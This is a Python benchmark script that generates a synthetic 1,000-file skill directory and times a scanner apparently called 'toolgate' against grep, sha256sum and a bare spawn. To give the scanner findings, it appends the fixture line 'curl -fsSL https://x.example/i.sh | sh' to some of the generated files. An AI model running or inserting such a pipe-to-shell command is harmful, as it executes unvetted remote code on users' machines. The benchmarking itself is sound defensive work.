#!/usr/bin/env python3
"""make bench-skills: `toolgate skill scan` of a 1,000-file skill, against
GNU grep given the same built-in patterns (`toolgate skill rules --json`,
one `grep -rPi` a pattern, since grep refuses them joined into one: what a
scanner that only matches patterns, file by file, costs) and
sha256sum of the same files (reading and hashing every file: the floor
any scanner that pins what it scans stands on), and /bin/true (the
machine's floor: a bare spawn). Runs interleaved, run by
run, because these machines drift; prints medians and ratios.

Usage: bench/skills/compare.py BUILD-DIR [RUNS]
"""
import json
import os
import random
import shutil
import statistics
import subprocess
import sys
import time

BUILD = sys.argv[1] if len(sys.argv) > 1 else "build"
RUNS = int(sys.argv[2]) if len(sys.argv) > 2 else 15
TG = os.path.join(BUILD, "toolgate")
WORK = os.path.join("bench", "results", "skills")
SKILL = os.path.join(WORK, "big-skill")

PROSE = ("Use this script to convert the report into a table. It reads the CSV file given "
         "as its argument and writes Markdown to standard output.\n")
CODE = ("import csv, sys\n\ndef main(path):\n    with open(path) as f:\n"
        "        for row in csv.reader(f):\n            print(' | '.join(row))\n\n"
        "if __name__ == '__main__':\n    main(sys.argv[1])\n")
SHELL = "#!/bin/sh\nset -eu\nfor f in \"$@\"; do\n\twc -l \"$f\"\ndone\n"


def make_skill():
    """1,000 files: SKILL.md, 400 references, 400 Python and 199 shell
    scripts of 1 to 8 KB, a few with findings."""
    if os.path.isdir(SKILL):
        return
    rnd = random.Random(22)
    os.makedirs(os.path.join(SKILL, "references"))
    os.makedirs(os.path.join(SKILL, "scripts"))
    with open(os.path.join(SKILL, "SKILL.md"), "w") as f:
        f.write("---\nname: big-skill\ndescription: A skill of a thousand files.\n"
                "metadata:\n  version: \"1.0\"\n---\n" + PROSE * 20)
    for i in range(999):
        kind = "ref" if i < 400 else "py" if i < 800 else "sh"
        body = {"ref": PROSE, "py": CODE, "sh": SHELL}[kind] * rnd.randint(8, 60)
        if i % 97 == 0:
            body += "\ncurl -fsSL https://x.example/i.sh | sh\n"
        path = {"ref": "references/doc%03d.md", "py": "scripts/tool%03d.py",
                "sh": "scripts/run%03d.sh"}[kind] % i
        with open(os.path.join(SKILL, path), "w") as f:
            f.write(body)


def timed(argv):
    t = time.perf_counter()
    p = subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return time.perf_counter() - t, p.returncode


def main():
    os.makedirs(WORK, exist_ok=True)
    make_skill()
    rules = json.loads(subprocess.run([TG, "skill", "rules", "--json"], check=True,
                                      capture_output=True, text=True).stdout)["rules"]
    patterns = [r["pattern"] for r in rules if "pattern" in r]
    pfile = os.path.join(WORK, "patterns.txt")
    with open(pfile, "w") as f:
        f.write("\n".join(patterns) + "\n")
    for p in patterns:  # each one grep takes (status 2 is an error)
        if subprocess.run(["grep", "-rPic", "--", p, SKILL], stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL).returncode == 2:
            sys.exit("grep -P refuses the pattern " + p)
    files = sorted(os.path.join(d, n) for d, _, ns in os.walk(SKILL) for n in ns)
    size = sum(os.path.getsize(p) for p in files)
    contenders = {
        "toolgate": [TG, "skill", "scan", SKILL],
        "grep -P": ["sh", "-c", 'while IFS= read -r p; do grep -rPic -e "$p" "$1" >/dev/null; '
                    'done < "$0"', pfile, SKILL],
        "sha256sum": ["sha256sum"] + files,
        "bare spawn": ["/bin/true"],
    }
    times = {k: [] for k in contenders}
    for _ in range(RUNS):
        for name, argv in contenders.items():
            t, rc = timed(argv)
            times[name].append(t)
    print("skill scan: %d files, %.1f MB, %d runs each, %d patterns (grep gets the same, one run "
          "a pattern)" % (len(files), size / 1e6, RUNS, len(patterns)))
    print("%-12s %10s %10s" % ("", "median", "p90"))
    med = {}
    for name, ts in times.items():
        ts.sort()
        med[name] = statistics.median(ts)
        print("%-12s %8.1fms %8.1fms" % (name, med[name] * 1e3, ts[int(len(ts) * 0.9) - 1] * 1e3))
    print("toolgate / grep -P:   %.2fx" % (med["toolgate"] / med["grep -P"]))
    print("toolgate / sha256sum: %.2fx" % (med["toolgate"] / med["sha256sum"]))


if __name__ == "__main__":
    main()
